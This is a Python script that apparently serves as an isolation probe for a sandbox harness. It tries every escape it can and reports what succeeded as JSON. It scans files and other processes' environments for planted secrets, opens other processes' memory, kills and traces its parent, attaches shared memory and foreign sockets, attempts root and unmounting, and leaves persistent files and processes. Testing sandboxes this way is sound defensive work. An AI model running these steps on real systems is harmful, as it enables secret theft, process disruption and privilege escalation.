"""A job that takes what it can get, and prints what it got as a JSON object.

It runs as a script, from a copy: it imports nothing of ours. `TARGETS` in its environment are paths
that it is after, `MARK` a word that it leaves wherever it can.
"""

import contextlib
import ctypes
import json
import os
import pathlib
import re
import signal
import socket
import subprocess
import sys
from collections.abc import Iterator

Got = Iterator[tuple[str, object]]
SECRET = re.compile(rb"victim-[0-9a-f]{24}")
SKIPPED = ("/proc", "/sys", "/usr", "/opt", "/work", "/var/lib", sys.prefix, sys.base_prefix)
LIBC = ctypes.CDLL(None, use_errno=True)


def read(path: str) -> bytes:
    return pathlib.Path(path).read_bytes()


def lines(path: str) -> list[str]:
    return pathlib.Path(path).read_text().splitlines()


def targets() -> Got:
    """Files and folders by their paths."""
    for path in json.loads(os.environ["TARGETS"]):
        with contextlib.suppress(OSError):
            yield path, os.listdir(path) if os.path.isdir(path) else read(path)[:99]


def files() -> Got:
    """All files that it can read."""
    for folder, folders, names in os.walk("/"):
        folders[:] = [one for one in folders if os.path.join(folder, one) not in SKIPPED]
        for name in names:
            path = os.path.join(folder, name)
            with contextlib.suppress(OSError):
                if os.path.isfile(path) and os.stat(path).st_size < 1 << 22:
                    yield path, SECRET.findall(read(path))


def processes() -> Got:
    """Variables and command lines of others, and signals to them."""
    own = os.getpid()
    for entry in filter(str.isdigit, os.listdir("/proc")):
        for name in ("environ", "cmdline", "mem", "fd", "root", "cwd"):
            with contextlib.suppress(OSError):
                path = f"/proc/{entry}/{name}"
                if name == "environ":
                    yield path, SECRET.findall(read(path))
                elif name == "mem" and int(entry) != own:
                    os.close(os.open(path, os.O_RDWR))
                    yield path, "opened"
                elif name in ("root", "cwd") and int(entry) != own:
                    yield path, os.readlink(path)
        if int(entry) not in (own, os.getppid()) and not _is_child(entry):
            with contextlib.suppress(OSError):
                os.kill(int(entry), 0)
                yield f"kill {entry}", "may"
    with contextlib.suppress(OSError):
        os.kill(os.getppid(), signal.SIGKILL)
        yield "parent", "killed"
    if LIBC.ptrace(16, os.getppid(), 0, 0) == 0:
        yield "parent", "traced"


def _is_child(entry: str) -> bool:
    with contextlib.suppress(OSError):
        return f"PPid:\t{os.getpid()}" in lines(f"/proc/{entry}/status")
    return True


def memory() -> Got:
    """What is left in its own memory of the process that it was forked from."""
    for line in lines("/proc/self/maps"):
        span, rights = line.split()[:2]
        first, last = (int(word, 16) for word in span.split("-"))
        if not rights.startswith("r") or last - first > 1 << 29 or "[v" in line:
            continue
        with contextlib.suppress(OSError, ValueError), open("/proc/self/mem", "rb", 0) as file:
            file.seek(first)
            yield span, SECRET.findall(file.read(last - first))


def shared_memory() -> Got:
    """Segments of System V, and files in /dev/shm."""
    LIBC.shmat.restype = ctypes.c_void_p
    for line in lines("/proc/sysvipc/shm")[1:]:
        yield "shm", line.split()[:2]
    for ident in range(64):
        at = LIBC.shmat(ident, None, 0o10000)
        if at not in (None, ctypes.c_void_p(-1).value):
            yield f"shmat {ident}", ctypes.string_at(at, 31)
    for path, _, names in os.walk("/dev/shm"):
        for name in names:
            if os.path.join(path, name) != os.environ["KAREZ_STEWARD"]:
                yield os.path.join(path, name), "seen"


def sockets() -> Got:
    """Unix sockets of others, and descriptors that it was left."""
    for line in lines("/proc/net/unix")[1:]:
        path = [*line.split(), ""][7]
        if not path.startswith(("/", "@")) or path == os.environ["KAREZ_STEWARD"]:
            continue
        with contextlib.suppress(OSError), socket.socket(socket.AF_UNIX) as stream:
            stream.connect(path.replace("@", "\0", 1) if path[0] == "@" else path)
            if path[0] == "/" and not path.startswith(("/run/dbus", "/var/run")):
                yield path, "connected"
    for number in os.listdir("/proc/self/fd"):
        with contextlib.suppress(OSError):
            to = os.readlink(f"/proc/self/fd/{number}")
            if int(number) > 2 and not to.startswith(f"/proc/{os.getpid()}/"):
                yield f"fd {number}", to


def rights() -> Got:
    """Becoming root, mounting, and uncovering what mounts hide."""
    with contextlib.suppress(OSError):
        os.setuid(0)
        yield "setuid", os.getuid()
    for line in lines("/proc/self/status"):
        if line.startswith(("CapEff", "CapPrm")) and int(line.split()[1], 16):
            yield "capabilities", line
    for hidden in ("/tmp", "/dev/shm", "/proc", os.environ["HIDDEN"]):
        if LIBC.umount2(hidden.encode(), 2) == 0:
            yield hidden, "uncovered"
        done = subprocess.run(["unshare", "-Urm", "umount", "-l", hidden], capture_output=True)
        if done.returncode == 0:
            yield hidden, "uncovered in a namespace"


def leave() -> None:
    """What would outlive it."""
    mark = os.environ["MARK"]
    for folder in (
        "/tmp",
        "/var/tmp",
        "/dev/shm",
        os.environ["HOME"],
        "/run/lock",
        "/var/lib",
        "/root",
        "/",
    ):
        with contextlib.suppress(OSError):
            pathlib.Path(folder, mark).write_text(mark)
    subprocess.Popen(["sh", "-c", f"sleep 600; : {mark}"], start_new_session=True, env={})
    subprocess.run(
        ["sh", "-c", f"setsid setsid sh -c 'sleep 601; : {mark}' >/dev/null 2>&1 &"], env={}
    )
    LIBC.shmget(0, 4096, 0o1666)
    for number, path in enumerate(json.loads(os.environ["TARGETS"])):
        with contextlib.suppress(OSError):
            os.makedirs(f"{os.environ['KAREZ_OUT']}/o", exist_ok=True)
            os.symlink(path, f"{os.environ['KAREZ_OUT']}/o/{number}")
            os.symlink(path, f"{os.environ['KAREZ_CHECKPOINT_DIR']}/{number}")


def main() -> None:
    got = {}
    for attack in (targets, files, memory, shared_memory, sockets, rights, processes):
        got[attack.__name__] = [[name, repr(what)] for name, what in attack() if what]
    leave()
    sys.stdout.write(json.dumps(got) + "\n")


main()
